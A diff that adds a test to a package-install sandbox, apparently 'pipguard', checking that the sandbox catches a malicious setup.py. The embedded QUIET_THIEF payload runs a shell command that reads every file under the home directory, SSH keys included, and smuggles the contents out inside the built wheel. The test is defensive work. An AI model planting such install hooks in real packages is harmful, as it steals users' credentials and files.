@@ -155,6 +155,52 @@ def test_native_credential_read_refuses_the_install(tmp_path, fake_home, route, 
     assert refusal["package"] == "nsthief" and "decoy-read" in refusal["message"], refusal
 
 
+QUIET_THIEF = r"""
+import os, subprocess
+# the quiet thief asks for nothing the sandbox refuses: a system file, its own tree, and -- by
+# a native cat no audit hook sees, read observation off -- every file under the home it knows
+# of; whatever it got rides inside the wheel it builds
+home = os.environ.get('PIPGUARD_TEST_HOME', '/nonexistent')
+loot = subprocess.run(['sh', '-c', 'cat /etc/os-release setup.py; find "$1" -type f -exec cat {} +',
+                       'sh', home], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL).stdout
+os.makedirs('nsquiet', exist_ok=True)
+with open(os.path.join('nsquiet', 'loot.py'), 'w') as handle:
+    handle.write('LOOT = ' + repr(loot) + '\n')
+"""
+
+
+def test_quiet_theft_into_the_wheel_gets_decoys_and_is_reported(tmp_path, fake_home, links, target):
+    """The quiet attacker under ns: it reads only what the namespace lets it read and carries it
+    out in the wheel it builds. The real home is not there: what it finds at the fake HOME's path
+    is the decoys, so no canary of the fake HOME is in any file the run left (target, report,
+    sdists), and each decoy it read is reported (decoy-read): the install is refused."""
+    extra = links.add(tmp_path / "extra")
+    proj = write_project(tmp_path / "q", "nsquiet")
+    (proj / "setup.py").write_text(QUIET_THIEF + (proj / "setup.py").read_text())
+    build_sdist(proj, extra)
+    before = listing(target)
+    proc, report = pg_install([*NS, "--keep-env", "PIPGUARD_TEST_HOME", "nsquiet"], home=fake_home,
+                              target=target, route=links, cwd=tmp_path,
+                              extra_env={"PIPGUARD_TEST_HOME": str(fake_home.path)})
+    assert proc.returncode == 1, proc.stderr[-4000:]
+    assert listing(target) == before
+    canaries = [m.encode() for m in fake_home.markers.values()]
+    for path in tmp_path.rglob("*"):
+        if path.is_file() and not path.is_symlink():
+            data = path.read_bytes()
+            assert not [c for c in canaries if c in data], path
+    assert not [m for m in fake_home.markers.values() if m in proc.stdout + proc.stderr]
+    reads = [e for e in report["events"] if e["rule"] == "decoy-read"]
+    assert str(fake_home.secrets["id_rsa"]) in {e["target"] for e in reads}, report["events"]
+    assert all(e["action"] == "blocked" and e["layer"] == "ns" and e["detail"]["package"] == "nsquiet"
+               and e["target"].startswith(str(fake_home.path) + "/") for e in reads), reads
+    # quiet: nothing else of it was refused (the decoys are what gave it away)
+    others = [e for e in report["events"] if e["action"] == "blocked" and e["rule"] not in ("decoy-read", "nscd-probe")]
+    assert not others, others
+    (refusal,) = report["refusals"]
+    assert refusal["package"] == "nsquiet" and "decoy-read" in refusal["message"], refusal
+
+
 HUNT = r"""
 import os, subprocess
 # everything a process in the namespace can see of the others: pid 1 is a fork of pipguard
